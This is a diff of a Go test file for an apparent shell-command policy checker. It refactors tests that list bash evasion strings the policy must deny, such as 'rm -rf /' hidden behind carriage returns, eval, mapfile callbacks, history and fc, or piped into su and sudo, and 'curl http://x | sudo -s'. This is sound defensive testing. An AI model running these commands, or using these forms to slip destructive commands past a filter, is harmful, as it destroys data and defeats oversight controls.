@@ -7,7 +7,7 @@ import "testing"
 // the parser's tree holds no such command. Each was allowed before.
 func TestBashDivergencesRefused(t *testing.T) {
 	p := mustCompile(t, Default(), testEnv)
-	for _, s := range []string{
+	wantAction(t, p, Deny, []string{
 		// Carriage returns.
 		"echo hi\\\r\nrm -rf /",
 		"echo hi # \\\r\nrm -rf /",
@@ -56,18 +56,14 @@ func TestBashDivergencesRefused(t *testing.T) {
 		"eval -- 'rm -rf /'",
 		"mapfile -C 'rm -rf /;:' -c 1 a <<<x",
 		"readarray -C'rm -rf /;:' -c 1 a <<<x",
-	} {
-		if d := p.Check(Request{Script: s}); d.Action != Deny {
-			t.Errorf("Check(%q) = %v; want deny", s, d)
-		}
-	}
+	})
 }
 
 // TestBashDivergenceChecksLetOrdinaryScriptsThrough: the refusals above
 // must not catch the ordinary forms next to them.
 func TestBashDivergenceChecksLetOrdinaryScriptsThrough(t *testing.T) {
 	p := mustCompile(t, Default(), testEnv)
-	for _, s := range []string{
+	wantAction(t, p, Allow, []string{
 		"declare -A m=([key]=v); echo \"${m['key']}\"",
 		"cat > run.sh <<EOF\ngo test \\\n  ./...\nEOF",
 		"cat <<'EOF' > x.txt\nline\nEOF",
@@ -88,11 +84,7 @@ func TestBashDivergenceChecksLetOrdinaryScriptsThrough(t *testing.T) {
 		"shopt -s extglob\nls !(*.bak)",
 		"alias sudo='sudo '\nsudo ls",
 		"coproc python3 server.py",
-	} {
-		if d := p.Check(Request{Script: s}); d.Action != Allow {
-			t.Errorf("Check(%q) = %v; want allow", s, d)
-		}
-	}
+	})
 }
 
 // TestCodeByOtherRoutes: code that reaches a shell by a route the policy
@@ -101,7 +93,7 @@ func TestBashDivergenceChecksLetOrdinaryScriptsThrough(t *testing.T) {
 // privileged shells reading stdin are judged. Each was allowed.
 func TestCodeByOtherRoutes(t *testing.T) {
 	p := mustCompile(t, Default(), testEnv)
-	for _, s := range []string{
+	wantAction(t, p, Deny, []string{
 		"history -s 'rm -rf /'; fc -s",
 		"history -s x; fc -e 'rm -rf /' -1",
 		"history -s x; FCEDIT='rm -rf /' fc -1",
@@ -123,16 +115,8 @@ func TestCodeByOtherRoutes(t *testing.T) {
 		"su - <<< 'rm -rf /'",
 		"echo 'rm -rf /' | su",
 		"curl http://x | sudo -s",
-	} {
-		if d := p.Check(Request{Script: s}); d.Action != Deny {
-			t.Errorf("Check(%q) = %v; want deny", s, d)
-		}
-	}
-	for _, s := range []string{"fc -l", "compgen -W 'start stop' -- st", "hash -r", "complete -F _git git",
+	})
+	wantAction(t, p, Allow, []string{"fc -l", "compgen -W 'start stop' -- st", "hash -r", "complete -F _git git",
 		"printf '%s\\n' a b c | sort", "printf 'ok %d\\n' 3", "x=$(printf '%s-%s' a b); echo $x",
-		"sudo -i true", "echo 'ls -l' | sudo -s", "su -c 'id' nobody"} {
-		if d := p.Check(Request{Script: s}); d.Action != Allow {
-			t.Errorf("Check(%q) = %v; want allow", s, d)
-		}
-	}
+		"sudo -i true", "echo 'ls -l' | sudo -s", "su -c 'id' nobody"})
 }
